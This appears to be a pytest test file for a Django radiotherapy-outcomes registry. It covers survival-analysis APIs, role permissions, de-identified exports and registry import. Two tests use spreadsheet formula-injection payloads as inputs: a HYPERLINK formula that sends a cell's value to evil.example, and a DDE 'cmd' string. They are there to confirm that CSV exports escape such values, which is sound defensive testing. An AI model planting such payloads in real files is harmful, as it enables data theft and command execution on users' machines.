"""API, pages, permissions and de-identified exports."""

import io
import json

import pandas as pd
import pytest
from django.conf import settings
from django.test import Client

from outcomes import services
from outcomes.deidentify import pseudonym, scan_for_identifiers
from outcomes.models import FollowUpAssessment
from outcomes.registry_import import import_registry
from tests.conftest import PASSWORD
from workflow.models import Course, Patient

from .conftest import D, log
from .test_registry_import import csv_text

pytestmark = pytest.mark.urls("tests.outcomes.urls")

@pytest.fixture(autouse=True)
def small_cohorts_allowed(settings):
    """These tests check analysis and export content on a 4-patient registry; the minimum cohort, group suppression
    and release ledger are tested with a cohort above the minimum in tests/outcomes/test_disclosure.py."""
    settings.RADPATH_MIN_COHORT = 1


NAMES = [("Quilla", "Vantongeren"), ("Bartholomew", "Zygmuntowicz"), ("Ottoline", "Featherstonehaugh"), ("Evander", "Quartermaine")]


def registry_rows():
    rows = []
    for i, (given, family) in enumerate(NAMES, start=1):
        mrn = f"MRNX{i:03d}"
        multi = i % 2 == 1
        rows.append({"record_type": "patient", "mrn": mrn, "given_name": given, "family_name": family,
                     "birth_date": f"19{40 + i}-0{i}-1{i}", "sex": "F" if i % 2 else "M", "site": "pleural_mesothelioma",
                     "diagnosed_on": "2020-01-15", "surgery": "pd" if multi else "", "surgery_date": "2020-02-20" if multi else "",
                     "chemotherapy": "cisplatin/pemetrexed" if multi else "", "chemotherapy_date": "2020-04-01" if multi else ""})
        rows.append({"record_type": "course", "mrn": mrn, "course_ref": "1", "intent": "adjuvant", "technique": "IMRT",
                     "treated_site": f"Hemithorax of {family}", "total_dose_gy": "50.4", "fractions": "28",
                     "rt_start": "2020-06-01", "rt_end": "2020-07-10"})
        rows.append({"record_type": "followup", "mrn": mrn, "course_ref": "1", "date": "2020-10-01", "imaging": "CT", "response": "PR"})
        if i <= 2:
            rows.append({"record_type": "followup", "mrn": mrn, "course_ref": "1", "date": f"2021-0{i + 2}-01", "imaging": "CT",
                         "response": "PD", "failure_site": "local"})
            rows.append({"record_type": "death", "mrn": mrn, "date": f"2022-0{i}-15", "cause": "disease"})
        else:
            rows.append({"record_type": "followup", "mrn": mrn, "course_ref": "1", "date": "2024-01-01", "last_known_alive": "2024-03-01"})
    return rows


@pytest.fixture
def cohort(oncologist):
    import_registry(csv_text(registry_rows()), user=oncologist)
    a = FollowUpAssessment.objects.filter(patient__mrn="MRNX003", date=D(2020, 10, 1)).get()
    a.notes = "Narrative: Quilla Vantongeren phoned about her neighbour"
    a.save()
    return Patient.objects.filter(mrn__startswith="MRNX")


def client_for(user):
    c = Client()
    assert c.login(username=user.username, password=PASSWORD)
    return c


@pytest.fixture
def researcher(users):
    return users["researcher"]


def test_researcher_gets_analysis_and_exports_but_not_identified_data(cohort, researcher):
    c = client_for(researcher)
    r = c.get("/api/outcomes/survival/", {"site": "pleural_mesothelioma", "group_by": "multimodal", "endpoint": "pfs"})
    assert r.status_code == 200, r.content
    body = r.json()
    assert body["time_zero"] == "rt_start" and body["conf_type"] == "log" and body["n_patients"] == 4
    assert {g["label"] for g in body["groups"]} == {"surgery+chemo+RT", "other"}
    assert body["logrank"]["df"] == 1 and "curve" in body["groups"][0]
    assert [t["years"] for t in body["groups"][0]["at_times"]] == [1, 2, 5]
    png = c.get("/api/outcomes/survival/plot.png", {"group_by": "multimodal"})
    assert png.status_code == 200 and png["Content-Type"] == "image/png" and png.content[:4] == b"\x89PNG"
    svg = c.get("/api/outcomes/survival/plot.svg")
    assert svg.status_code == 200 and b"<svg" in svg.content
    assert c.get("/api/outcomes/swimmer.png").status_code == 200
    swimmer = c.get("/api/outcomes/swimmer.svg", {"group_by": "multimodal"})
    assert swimmer.status_code == 200 and b"Not multimodal" in swimmer.content  # the analysis' groups, by label
    bad = c.get("/api/outcomes/swimmer.svg", {"group_by": "shoe_size"})
    assert bad.status_code == 400 and "group_by" in bad.json(), bad.content
    for table in ("patients", "assessments"):
        for fmt in ("csv", "parquet", "json"):
            assert c.get(f"/api/outcomes/exports/{table}.{fmt}").status_code == 200
    page = c.get("/outcomes/analysis/", {"endpoint": "os", "group_by": "multimodal", "time_zero": "rt_start", "conf_type": "log"})
    assert page.status_code == 200 and b"/api/outcomes/survival/plot.png?" in page.content and b"Log-rank" in page.content
    course = Course.objects.filter(patient__in=cohort).first()
    for url in ("/api/outcomes/assessments/", f"/api/outcomes/courses/{course.pk}/outcome/", "/api/patients/",
                f"/outcomes/courses/{course.pk}/", f"/outcomes/courses/{course.pk}/assessments/new/", "/outcomes/import/"):
        assert c.get(url).status_code == 403, url


def test_therapist_cannot_export_or_analyse(cohort, therapist):
    c = client_for(therapist)
    assert c.get("/api/outcomes/exports/patients.csv").status_code == 403
    assert c.get("/api/outcomes/survival/").status_code == 403
    assert c.get("/outcomes/analysis/").status_code == 403
    assert c.get("/api/outcomes/assessments/").status_code == 200  # clinical read only
    r = c.post("/api/outcomes/assessments/", {"course": Course.objects.first().pk, "date": "2024-01-01"}, content_type="application/json")
    assert r.status_code == 403


def _identifiers():
    vals = []
    for p in Patient.objects.all():
        vals += [p.mrn, p.given_name, p.family_name, p.birth_date]
    return vals


def test_no_identifier_in_any_export_format(cohort, researcher):
    c = client_for(researcher)
    idents = _identifiers()
    raw_needles = [str(v) if not hasattr(v, "isoformat") else v.isoformat() for v in idents] + ["Narrative", "Hemithorax"]
    frames = {}
    for table in ("patients", "assessments"):
        for fmt in ("csv", "parquet", "json"):
            data = c.get(f"/api/outcomes/exports/{table}.{fmt}").content
            for n in raw_needles:
                assert n.encode() not in data, (table, fmt, n)
            if fmt == "csv":
                df = pd.read_csv(io.BytesIO(data))
            elif fmt == "parquet":
                df = pd.read_parquet(io.BytesIO(data))
            else:
                doc = json.loads(data)
                assert doc["meta"]["time_zero"] == "rt_start"
                df = pd.DataFrame(doc["rows"])
            assert scan_for_identifiers(df, idents) == [], (table, fmt)
            assert not {"mrn", "given_name", "family_name", "birth_date", "notes", "override_reason", "treated_site"} & set(df.columns)
            frames[(table, fmt)] = df
    p = frames[("patients", "csv")].set_index("pseudo_id")
    assert len(p) == 4
    key = settings.RADPATH_PSEUDONYM_KEY
    q = p.loc[pseudonym("MRNX001", key)]  # stable keyed pseudonym of the MRN
    assert q["rt_start_day"] == 0 and q["death_date_day"] == (D(2022, 1, 15) - D(2020, 6, 1)).days
    assert q["age_at_time_zero"] == 79 and q["time_zero"] == "rt_start" and q["os_event"] == 1
    assert q["multimodal"] == "surgery+chemo+RT"
    a = frames[("assessments", "parquet")]
    assert set(a["pseudo_id"]) == set(p.index) and {"date_day", "response", "derived_response"} <= set(a.columns)
    # time zero = diagnosis is recorded and shifts the offsets
    dx = pd.read_csv(io.BytesIO(c.get("/api/outcomes/exports/patients.csv", {"time_zero": "diagnosis"}).content)).set_index("pseudo_id")
    assert dx.loc[pseudonym("MRNX001", key), "diagnosis_date_day"] == 0 and (dx["time_zero"] == "diagnosis").all()


def test_oncologist_logs_follow_up_through_api_and_overrides(course, oncologist):
    services.set_recorded_rt_dates(course, D(2026, 6, 15), D(2026, 7, 20))
    c = client_for(oncologist)
    base = {"course": course.pk, "kind": "baseline", "date": "2026-06-10", "criteria": "mrecist1.1",
            "measurements_input": [{"kind": "pleural", "lesion": "anterior", "ct_level": 1, "value_mm": 20},
                                   {"kind": "pleural", "lesion": "posterior", "ct_level": 2, "value_mm": 15}]}
    r = c.post("/api/outcomes/assessments/", base, content_type="application/json")
    assert r.status_code == 201, r.content
    fu = dict(base, kind="followup", date="2026-09-10",
              measurements_input=[{"kind": "pleural", "lesion": "anterior", "ct_level": 1, "value_mm": 12},
                                  {"kind": "pleural", "lesion": "posterior", "ct_level": 2, "value_mm": 10}])
    r = c.post("/api/outcomes/assessments/", fu, content_type="application/json")
    assert r.status_code == 201 and r.json()["response"] == "PR" and r.json()["target_sum_mm"] == 22
    pk = r.json()["id"]
    r = c.post(f"/api/outcomes/assessments/{pk}/override/", {"response": "SD", "reason": ""}, content_type="application/json")
    assert r.status_code == 400 and "reason" in r.json()
    r = c.post(f"/api/outcomes/assessments/{pk}/override/", {"response": "SD", "reason": "Post-surgical change, not response"},
               content_type="application/json")
    assert r.status_code == 200 and (r.json()["derived_response"], r.json()["response"]) == ("PR", "SD")
    # typed derived values are ignored (read-only)
    r = c.patch(f"/api/outcomes/assessments/{pk}/", {"derived_response": "CR", "new_lesions": True}, content_type="application/json")
    assert r.status_code == 200 and r.json()["derived_response"] == "PD" and r.json()["response"] == "SD"
    body = c.get(f"/api/outcomes/courses/{course.pk}/outcome/").json()
    assert body["criteria"] == "mrecist1.1" and len(body["timeline"]) == 2
    r = c.post("/api/outcomes/assessments/", dict(fu, date="2099-01-01"), content_type="application/json")
    assert r.status_code == 400 and "date" in r.json()


def test_follow_up_form_with_measurement_formset(rt_course, oncologist):
    log(rt_course, oncologist, D(2026, 6, 10), [30, 20], kind="baseline")
    c = client_for(oncologist)
    url = f"/outcomes/courses/{rt_course.pk}/assessments/new/"
    page = c.get(url)
    assert page.status_code == 200 and b'name="m-0-value_mm"' in page.content
    post = {"kind": "followup", "date": "2026-09-01", "imaging": "CT", "criteria": "recist1.1", "non_target": "none",
            "vital_status": "alive", "failure_site": "", "m-TOTAL_FORMS": "6", "m-INITIAL_FORMS": "0", "m-MIN_NUM_FORMS": "0",
            "m-MAX_NUM_FORMS": "12"}
    for i, (lesion, v) in enumerate([("T1", "10"), ("T2", "5")]):
        post.update({f"m-{i}-kind": "target", f"m-{i}-lesion": lesion, f"m-{i}-organ": "lung", f"m-{i}-value_mm": v})
    r = c.post(url, post)
    assert r.status_code == 302, r.content.decode()[:2000]
    a = FollowUpAssessment.objects.get(date=D(2026, 9, 1))
    assert a.response == "PR" and a.target_sum_mm == 15
    page = c.get(f"/outcomes/courses/{rt_course.pk}/")
    assert page.status_code == 200 and b"Partial remission" in page.content
    bad = dict(post, **{"m-0-value_mm": "-3", "date": "2026-09-02"})
    r = c.post(url, bad)
    assert r.status_code == 200 and b"cannot be negative" in r.content
    assert not FollowUpAssessment.objects.filter(date=D(2026, 9, 2)).exists()


def test_registry_upload_page_reports_lines(oncologist):
    c = client_for(oncologist)
    rows = registry_rows()
    rows[1]["fractions"] = "many"
    f = io.BytesIO(csv_text(rows).encode())
    f.name = "reg.csv"
    r = c.post("/outcomes/import/", {"file": f})
    assert r.status_code == 200 and b"nothing was imported" in r.content and b"<td>3</td>" in r.content
    assert Patient.objects.count() == 0
    f = io.BytesIO(csv_text(registry_rows()).encode())
    f.name = "reg.csv"
    r = c.post("/api/outcomes/import/", {"file": f})
    assert r.status_code == 201 and r.json()["patients"] == 4


def test_grade3_toxicity_column_and_cohort_filter(cohort, researcher):
    """Toxicity events come from ``workflow.toxicity.models`` (installed): a grade >= 3 column and a cohort filter."""
    from outcomes.cohorts import CohortFilter
    from workflow.models import ToxicityEvent

    course = Course.objects.get(patient__mrn="MRNX002")
    ToxicityEvent.objects.create(course=course, term="Pneumonitis", grade=3, grade_date=D(2020, 9, 1), onset_date=D(2020, 9, 1),
                                 worst_grade=3, worst_grade_date=D(2020, 9, 1))
    assert list(CohortFilter.from_params({"min_toxicity_grade": "3"}).queryset().values_list("patient__mrn", flat=True)) == ["MRNX002"]
    assert CohortFilter.from_params({"no_toxicity_grade": "3"}).queryset().count() == 3
    c = client_for(researcher)
    df = pd.read_csv(io.BytesIO(c.get("/api/outcomes/exports/patients.csv").content)).set_index("pseudo_id")
    assert df.loc[pseudonym("MRNX002", settings.RADPATH_PSEUDONYM_KEY), "grade3_toxicity"] == "yes"
    assert (df["grade3_toxicity"] == "yes").sum() == 1
    r = c.get("/api/outcomes/survival/", {"group_by": "grade3_toxicity", "points": "0"})
    assert r.status_code == 200 and {g["label"] for g in r.json()["groups"]} == {"yes", "no"}


def test_formula_injection_is_escaped_in_csv_only(oncologist, researcher):
    """A registry value that a spreadsheet would run as a formula reaches the CSV with a leading quote (OWASP);
    numbers (negative day offsets) stay numbers, and Parquet / JSON keep the value as imported."""
    rows = registry_rows()
    arms = {"MRNX001": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "MRNX002": "+1+1", "MRNX003": "@SUM(1+1)",
            "MRNX004": "-2+3"}
    for r in rows:
        if r["record_type"] == "patient":
            r["trial_arm"] = arms[r["mrn"]]
    import_registry(csv_text(rows), user=oncologist)
    c = client_for(researcher)
    key = settings.RADPATH_PSEUDONYM_KEY
    body = c.get("/api/outcomes/exports/patients.csv", {"time_zero": "diagnosis"}).content
    df = pd.read_csv(io.BytesIO(body), keep_default_na=False).set_index("pseudo_id")
    assert df.loc[pseudonym("MRNX001", key), "trial_arm"] == "'" + arms["MRNX001"]
    assert df.loc[pseudonym("MRNX002", key), "trial_arm"] == "'+1+1"
    assert df.loc[pseudonym("MRNX003", key), "trial_arm"] == "'@SUM(1+1)"
    assert df.loc[pseudonym("MRNX004", key), "trial_arm"] == "'-2+3"
    assert b"\n=" not in body and b",=" not in body and b",+1+1" not in body
    # day offsets before time zero are numbers, not escaped: RT starts 2020-06-01, diagnosis 2020-01-15
    assert df.loc[pseudonym("MRNX001", key), "rt_start_day"] == 138
    dx = pd.read_csv(io.BytesIO(c.get("/api/outcomes/exports/patients.csv").content)).set_index("pseudo_id")
    assert dx.loc[pseudonym("MRNX001", key), "diagnosis_date_day"] == -138
    js = json.loads(c.get("/api/outcomes/exports/patients.json").content)
    assert {r["trial_arm"] for r in js["rows"]} == set(arms.values())
    pq = pd.read_parquet(io.BytesIO(c.get("/api/outcomes/exports/patients.parquet").content))
    assert set(pq["trial_arm"]) == set(arms.values())


def test_csv_formula_escape_covers_tab_and_carriage_return_and_leaves_numbers():
    from outcomes.exports import csv_safe, escape_formula

    assert [escape_formula(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "", None, -3)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "", None, -3]
    out = csv_safe(pd.DataFrame({"arm": ["=cmd|' /C calc'!A0", "B"], "day": [-12, 4]}))
    assert out["arm"].tolist() == ["'=cmd|' /C calc'!A0", "B"] and out["day"].tolist() == [-12, 4]


def test_analysis_page_takes_a_partial_url_and_speaks_in_months_and_labels(cohort, researcher):
    """``?endpoint=os&group_by=multimodal`` runs with the defaults (RT start, log CI). Medians in months beside the
    plot in months. Multimodal: patient 1 died 593 days after RT start, patient 3 censored at 1,369 days; S is
    exactly 0.5 from 593, so R's median is the midpoint (593 + 1369) / 2 = 981 days = 32.2 months, lower limit 593
    days = 19.5. Not multimodal: (624 + 1369) / 2 = 996.5 days = 32.7 months, lower 624 days = 20.5."""
    c = client_for(researcher)
    page = c.get("/outcomes/analysis/?endpoint=os&group_by=multimodal")
    assert page.status_code == 200
    html = page.content.decode()
    assert "This field is required" not in html and "Log-rank" in html
    assert "Median, months (95 % CI)" in html and "Number at risk (months from time zero)" in html
    assert '<th scope="row">Surgery + chemotherapy + RT</th><td>2</td><td>1</td>\n      <td>32.2 (19.5–NA)</td>' in html
    assert '<th scope="row">Not multimodal</th><td>2</td><td>1</td>\n      <td>32.7 (20.5–NA)</td>' in html
    body = c.get("/api/outcomes/survival/", {"group_by": "multimodal"}).json()
    medians = {g["label"]: (g["median"]["median"], g["median_months"]["median"]) for g in body["groups"]}
    assert medians["surgery+chemo+RT"] == (981, pytest.approx(981 / 30.4375))
    by_site = c.get("/outcomes/analysis/?group_by=site").content.decode()
    assert '<th scope="row">Pleural mesothelioma</th>' in by_site and '<th scope="row">pleural_mesothelioma</th>' not in by_site


def test_a_failed_cox_fit_is_explained_not_lifelines_text():
    """Sex identical to site makes the design matrix singular: lifelines raises with its own advice and URL; the
    analysis says what went wrong in the clinic's terms instead."""
    import numpy as np

    site = np.array(["lung"] * 20 + ["prostate"] * 20)
    df = pd.DataFrame({"os_days": np.linspace(50, 900, 40), "os_event": np.r_[np.ones(30), np.zeros(10)].astype(int),
                       "site": site, "sex": np.where(site == "lung", "M", "F"), "age_years": np.r_[71.0, np.full(39, 70.0)]})
    cox, error = services._cox(df, "os_days", "os_event", "site")
    assert cox is None and error == services.COX_FAILED
    assert "lifelines" not in error and "http" not in error and "matrix" not in error
    assert services.covariate_label("site=pleural_mesothelioma") == "Diagnosis site: Pleural mesothelioma"
    assert services.covariate_label("sex=M") == "Male (vs female)"
